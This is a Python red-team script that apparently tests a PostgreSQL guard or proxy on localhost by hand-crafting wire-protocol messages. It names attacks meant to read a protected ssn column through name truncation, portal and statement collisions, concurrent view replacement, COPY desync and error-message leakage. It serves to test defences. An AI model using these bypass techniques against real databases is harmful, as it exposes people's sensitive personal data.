#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The attacker of redteam.sh: redteam.py PORT ATTACK. Speaks the protocol by hand and prints all it gets."""
import socket
import struct
import sys

BACKWARDS = "SELECT reverse(ssn) FROM public.customers"
REPLACE = "CREATE OR REPLACE VIEW scratch.plain AS SELECT id, reverse(ssn) AS v FROM public.customers"
NAME = "n" * 63  # the server looks no further


def message(kind, body=b""):
    return kind + struct.pack("!i", len(body) + 4) + body


def cstr(s):
    return s.encode() + b"\0"


def query(sql):
    return message(b"Q", cstr(sql))


def parse(name, sql):
    return message(b"P", cstr(name) + cstr(sql) + struct.pack("!h", 0))


def bind(portal, stmt, *params):
    body = cstr(portal) + cstr(stmt) + struct.pack("!hh", 0, len(params))
    for p in params:
        body += struct.pack("!i", len(p)) + p.encode()
    return message(b"B", body + struct.pack("!h", 0))


def describe(portal):
    return message(b"D", b"P" + cstr(portal))


def close(what, name):
    return message(b"C", what + cstr(name))


def execute(portal="", rows=0):
    return message(b"E", cstr(portal) + struct.pack("!i", rows))


SYNC = message(b"S")


def run(sql):
    return parse("", sql) + bind("", "") + execute()


class Session:
    def __init__(self):
        self.s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=15)
        body = struct.pack("!i", 196608) + b"user\0agent\0database\0shop\0\0"
        self.s.sendall(struct.pack("!i", len(body) + 4) + body)
        self.until(b"Z")

    def read(self, n):
        data = b""
        while len(data) < n:
            chunk = self.s.recv(n - len(data))
            if not chunk:
                print("CLOSED")
                sys.exit(0)
            data += chunk
        return data

    def until(self, kind, times=1):
        """Prints messages up to one of that type, or up to a hold: then nobody will ever answer."""
        while times:
            head = self.read(5)
            body = self.read(struct.unpack("!i", head[1:])[0] - 4)
            if head[:1] not in b"SRK":
                print(head[:1].decode(), body.replace(b"\0", b" ").decode("utf8", "replace"), flush=True)
            if head[:1] == b"N" and b"held as" in body and not WAITS:
                sys.exit(0)
            times -= head[:1] == kind

    def send(self, *units, times=1):
        self.s.sendall(b"".join(units))
        self.until(b"Z", times)


WAITS = sys.argv[2] in ("several_binds",)


def long_statement_names(s):
    s.send(parse(NAME + "X", "SELECT 1::text"), SYNC)
    s.send(close(b"S", NAME + "Y"), SYNC)
    s.send(parse(NAME + "Z", BACKWARDS), SYNC)
    s.send(bind("", NAME + "X"), execute(), SYNC)


def long_portal_names(s):
    s.send(parse("a", "SELECT body FROM notes"), SYNC)
    s.send(parse("b", BACKWARDS), SYNC)
    s.send(query("BEGIN"))
    s.send(bind(NAME + "X", "a"), describe(NAME + "X"), execute(NAME + "X", 1), SYNC)
    s.send(close(b"P", NAME + "Y"), SYNC)
    s.send(bind(NAME + "Z", "b"), SYNC)
    s.send(execute(NAME + "X"), SYNC)


def view_replaced_next_door(s):
    """Two sessions share what is known of the database; one changes it, the other asks at once."""
    other = Session()
    other.send(query("SELECT id, v FROM scratch.plain"))
    s.send(query(REPLACE))
    other.send(query("SELECT id, v FROM scratch.plain"))


def view_replaced_next_door_by_commit(s):
    other = Session()
    s.send(query("BEGIN"))
    s.send(query(REPLACE))
    other.send(query("SELECT id, v FROM scratch.t"))
    s.send(query("COMMIT"))
    other.send(query("SELECT id, v FROM scratch.plain"))


def open_portal(s):
    s.send(parse("a", "SELECT body FROM notes"), SYNC)
    s.send(query("BEGIN"))
    s.send(bind("p", "a"), describe("p"), execute("p", 1), SYNC)


def portal_taken_in_batch(s):
    open_portal(s)
    s.send(run("CLOSE p"), run("DECLARE p CURSOR FOR " + BACKWARDS), execute("p"), SYNC)


def portal_taken_by_query(s):
    open_portal(s)
    s.send(query("CLOSE p; DECLARE p CURSOR FOR " + BACKWARDS), execute("p"), SYNC, times=2)


def view_replaced_transaction(s):
    s.send(query("SELECT v FROM scratch.plain"))
    s.send(query("BEGIN"))
    s.send(query(REPLACE))
    s.send(query("SELECT v FROM scratch.plain"))
    s.send(query("COMMIT"))


def view_replaced_string(s):
    s.send(query("SELECT v FROM scratch.plain"))
    s.send(query(REPLACE + "; SELECT v FROM scratch.plain"))


def view_replaced_at_once(s):
    s.send(query("SELECT v FROM scratch.plain"))
    s.send(query(REPLACE), query("SELECT v FROM scratch.plain"), times=2)
    s.send(query("SELECT v FROM scratch.plain"))


def question_spoiled(s):
    s.send(query("SELECT v FROM scratch.plain"))
    s.send(query("PREPARE holdfast_q AS SELECT 1"))
    s.send(query(REPLACE))
    for _ in range(2):
        s.send(query("SELECT v FROM scratch.plain"))


def errors(s):
    s.send(query("SELECT ('x' || vip)::int FROM customers"))
    s.send(query("SELECT ('x' || vip)::regclass FROM customers"))
    s.send(query("SELECT to_tsquery(vip || ' ' || vip) FROM customers"))
    s.send(query("SELECT ('{' || vip)::json FROM customers"))
    s.send(parse("", "SELECT reverse(ssn)::date FROM customers"), bind("", ""), execute(), SYNC)
    s.send(query("SELECT nosuch FROM customers"))


def several_binds(s):
    s.send(query("BEGIN"))
    s.send(parse("i", "INSERT INTO scratch.t VALUES ($1::int) RETURNING id"), bind("a", "i", "1"), bind("b", "i", "2"), SYNC)
    s.send(query("FETCH ALL FROM a"))
    s.send(query("COMMIT"))


def copy_loose_sync(s):
    # G is flushed before the failure: what is sent in between meets either state of the server.
    for _ in range(20):
        s.s.sendall(run("COPY scratch.t FROM STDIN (FREEZE)") + SYNC)
        s.until(b"E")
        s.s.sendall(SYNC + query(BACKWARDS) + query("SELECT 'plain'"))
        s.until(b"Z", 4)


def always_busy(s):
    busy = query("SELECT pg_sleep(0.3)")
    s.s.sendall(busy + busy)
    print("started", flush=True)
    for _ in range(12):
        s.send(busy)


if __name__ == "__main__":
    session = Session()
    globals()[sys.argv[2]](session)
